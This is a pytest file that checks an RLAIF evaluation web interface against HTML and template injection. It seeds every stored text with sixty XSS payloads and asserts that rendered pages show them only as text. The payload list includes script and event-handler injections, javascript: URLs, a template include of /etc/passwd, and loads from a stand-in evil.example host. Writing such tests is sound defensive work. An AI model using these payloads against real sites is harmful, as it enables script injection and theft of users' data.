"""Texts of models, users and data sets can neither add an element or attribute to a page nor run anything."""

import json
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest

from rlaif.context.run import now
from rlaif.core.text import visible
from rlaif.core.types import answer_key
from rlaif.evaluation.labeling import Voter
from rlaif.store.store import Store
from rlaif.view.markdown import render
from tests.support import report_store
from tests.support.page import Page
from tests.support.report_store import EVALUATION
from tests.support.view import client, subject

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/static/view.js?x></script>",
    "<img src=x onerror=alert(3)>",
    "<img src=//evil.example/pixel.gif>",
    "<img/src=x/onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<math><mtext><style><img src onerror=alert(8)></style></mtext></math>",
    "<iframe src=javascript:alert(9)></iframe>",
    "<iframe srcdoc='<script>alert(10)</script>'></iframe>",
    "<object data=javascript:alert(11)></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(12)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example><button>send</button></form>",
    "<input autofocus onfocus=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    "<a href=javascript:alert(16)>click</a>",
    "<a href='data:text/html,<script>alert(17)</script>'>click</a>",
    "<div style=position:fixed;inset:0>",
    "<template><script>alert(18)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(19)>'>",
    "</title><script>alert(20)</script>",
    "</textarea><script>alert(21)</script>",
    "</option></select><script>alert(22)</script>",
    "</p></div></main></body></html><script>alert(23)</script>",
    '"><script>alert(24)</script>',
    "'><script>alert(25)</script>",
    '" onmouseover=alert(26) x="',
    "' onfocus='alert(27)' autofocus='",
    "` onmouseover=alert(28) `",
    'x" data-load="//evil.example" data-key="1',
    'x" hx-get="/runs" hx-trigger="load',
    "javascript:alert(29)",
    "<!-- <script>alert(30)</script> -->",
    "--><script>alert(31)</script><!--",
    "<![CDATA[<script>alert(32)</script>]]>",
    "<?php echo 33 ?><script>alert(33)</script>",
    "&lt;script&gt;alert(34)&lt;/script&gt;",
    "&#60;script&#62;alert(35)&#60;/script&#62;",
    "<\x00script>alert(36)</script>",
    "<scr\u200bipt>alert(37)</script>",
    "\u202e<script>alert(38)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${alert(39)} #{alert(39)}",
    "[click](javascript:alert(40))",
    "[click](https://evil.example/?q=1 'x')",
    "![pixel](https://evil.example/pixel.gif)",
    "<https://evil.example/autolink>",
    "[ref]: https://evil.example/ref\n\n[ref]",
    "```html\n</code></pre><script>alert(41)</script>\n```",
    "| <img src=x onerror=alert(42)> | b |\n|---|---|\n| <script>alert(43)</script> | d |",
]
EVIL = "\n\n".join(PAYLOADS)

MARKDOWN = {"p", "ul", "ol", "li", "code", "pre", "blockquote", "h1", "h2", "em", "strong", "br", "hr", "s", "table"}
MARKDOWN |= {"thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {
    "class",
    "href",
    "id",
    "title",
    "rel",
    "src",
    "defer",
    "lang",
    "charset",
    "name",
    "content",
    "tabindex",
    "scope",
}
ATTRIBUTES |= {
    "colspan",
    "aria-label",
    "aria-current",
    "aria-hidden",
    "aria-busy",
    "role",
    "dir",
    "type",
    "value",
    "for",
    "start",
}
ATTRIBUTES |= {
    "action",
    "method",
    "placeholder",
    "step",
    "max",
    "maxlength",
    "required",
    "autofocus",
    "autocomplete",
    "spellcheck",
}
ATTRIBUTES |= {"open", "selected", "checked", "download", "data-key", "data-row", "data-tidy", "data-load", "data-refresh"}
ATTRIBUTES |= {"width", "height", "x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "rx"}


def attack(store: Store) -> None:
    """Put all payloads into every text that others write: models, users, data sets, servers."""
    report_store.fill(store, prompts=2, samples=3)
    messages = [{"role": "system", "content": EVIL}, {"role": "user", "content": EVIL, "tool_calls": [{"name": EVIL}]}]
    texts: dict[str, dict[str, Any]] = {
        "prompts": {
            "messages": json.dumps(messages),
            "document": EVIL,
            "reference": EVIL,
            "checklist": json.dumps([EVIL]),
            "metadata": json.dumps({EVIL: EVIL}),
            "source": EVIL,
        },
        "generators": {"name": EVIL},
        "judges": {"name": EVIL},
        "criteria": {"name": EVIL},
        "pairing_criteria": {"name": EVIL},
        "scores": {"rationale": EVIL},
        "comparisons": {"rationale": EVIL, "criterion": EVIL},
        "trainings": {"method": EVIL, "base": EVIL, "spec": json.dumps({"options": {EVIL: EVIL}})},
        "stage_runs": {"stage": EVIL, "run": EVIL},
        "dropped": {"reason": EVIL, "what": EVIL},
    }
    for table, columns in texts.items():
        store.run(f"UPDATE {table} SET {', '.join(f'{name} = ${name}' for name in columns)}", **columns)
    # Different responses, so that they can be labelled; their scores follow them.
    store.run("UPDATE responses SET text = $evil || key, reasoning = $evil, detail = $evil, finish = $evil", evil=EVIL)
    store.run("UPDATE responses SET failure = $evil WHERE failure IS NOT NULL", evil=EVIL)
    store.run("UPDATE reasons SET reason = $evil WHERE reason <> 'paired'", evil=EVIL)
    store.run(
        "UPDATE pairings SET spec = $spec",
        spec=json.dumps(
            {"strategy": EVIL, "mix": EVIL, "judges": ["j-tiny", EVIL], "generators": ["g"], "settings": {EVIL: 1}}
        ),
    )
    prompt = store.rows("SELECT prompt FROM pairs LIMIT 1")[0]["prompt"]
    answer = store.rows("SELECT answer FROM responses WHERE prompt = $prompt AND failure IS NULL", prompt=prompt)[0][
        "answer"
    ]
    # As in a live run.
    shared = {"judge": "j-tiny", "raw": EVIL, "detail": EVIL, "created": now()}
    store.append(
        "verdicts",
        [
            shared | {"key": "v1", "answer": answer, "repeat": 0, "attempt": 0, "reasoning": EVIL},
            shared | {"key": "v2", "answer": answer, "repeat": 1, "attempt": 0, "failure": EVIL},
        ],
    )
    store.append(
        "findings",
        [
            {
                "verdict": "v1",
                "answer": answer,
                "judge": "j-tiny",
                "criterion": EVIL,
                "position": position,
                "text": text,
                "outcome": EVIL,
                "rationale": EVIL,
            }
            for position, text in enumerate((EVIL, PAYLOADS[0]))
        ],
    )
    store.append("notes", [{"prompt": prompt, "judge": "j-tiny", "criterion": EVIL, "texts": json.dumps([EVIL])}])
    store.append("rendered_prompts", [{"prompt": prompt, "generator": "g", "messages": json.dumps(messages)}])
    Voter(EVIL).keep(store, [(prompt, answer, answer_key(prompt, "other"), "first")])


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Every view of a store whose texts are all hostile, and the views with payloads in their addresses."""
    out = tmp_path_factory.mktemp("hostile")
    with Store(out / "store.duckdb") as store:
        attack(store)
        prompt = store.rows("SELECT prompt FROM pairs WHERE pairing = 'p' LIMIT 1")[0]["prompt"]
    paths = [
        "/pairs",
        "/label",
        "/label?by=ann",
        "/judges",
        "/judges/audit",
        "/judges/criteria",
        "/runs",
        "/runs/evaluation",
    ]
    paths += [f"/prompt/{prompt}{mode}" for mode in ("", "?show=raw", "?show=diff", "?show=items")]
    match = EVALUATION.matches[0]
    named = replace(match, judge=EVIL, trained=replace(match.trained, name=EVIL), base=replace(match.base, name=EVIL))
    evaluated = replace(EVALUATION, matches=[match, named])
    with client(replace(subject(out), evaluate=lambda store: evaluated)) as browser:
        found = {path: browser.get(path).text for path in paths}
        for name in ("text", "outcome", "generator", "source", "value", "pairing", "where", "sort", "margin_from", "page"):
            found[f"/pairs?{name}"] = browser.get("/pairs", params={name: EVIL}).text
        found["/prompt/EVIL"] = browser.get("/prompt/x", params={"show": EVIL}).text
        found["/label?by"] = browser.get("/label", params={"by": EVIL}).text
    return found


def check(html: str) -> Page:
    """The page, if all its elements and attributes are ours."""
    page = Page(html)
    for tag, attributes in page.tags:
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        assert (tag != "script") or attributes == {"src": "/static/view.js", "defer": None}
        assert tag not in (
            "img",
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "template",
            "math",
            "video",
            "animate",
            "noscript",
        )
        for name in ("href", "src", "action", "data-load"):
            assert (attributes.get(name) or "/").startswith(("/", "?", "#")), attributes
            assert not (attributes.get(name) or "").startswith("//"), attributes
    return page


def test_no_payload_in_any_field_becomes_an_element_or_an_attribute(pages: dict[str, str]) -> None:
    assert len(PAYLOADS) == 60
    for path, html in pages.items():
        assert html.startswith(("<!doctype html>", "<p", "<h3")), path
        check(html)
        assert html.lower().count("<script") <= 1, path


def test_errors_of_a_live_run_and_marked_items_are_shown_as_text(pages: dict[str, str]) -> None:
    items = next(html for path, html in pages.items() if path.endswith("?show=items"))
    assert ("mark", {"class": "plain"}) in Page(items).tags
    assert "In the last five minutes" in Page(pages["/runs"]).words
    assert "Leaderboard" in Page(pages["/runs/evaluation"]).words


def test_the_payloads_are_shown_as_text(pages: dict[str, str]) -> None:
    raw = next(html for path, html in pages.items() if path.endswith("?show=raw"))
    shown = "\n".join(Page(raw).texts)
    for payload in PAYLOADS:
        assert visible(payload) in shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_adds_only_its_own_elements(payload: str) -> None:
    page = Elements(str(render(f"{payload}\n\n- {payload}\n\n> {payload}\n\n**{payload}**")))
    assert {tag for tag, _ in page.found} <= MARKDOWN
    assert {name for _, names in page.found for name in names} <= {"class", "start"}


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, [name for name, _ in attributes]))


def test_markdown_is_rendered() -> None:
    html = str(render("# Head\n\n1. **one**\n2. `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    assert {tag for tag, _ in Elements(html).found} >= {"h1", "ol", "strong", "code", "table"}
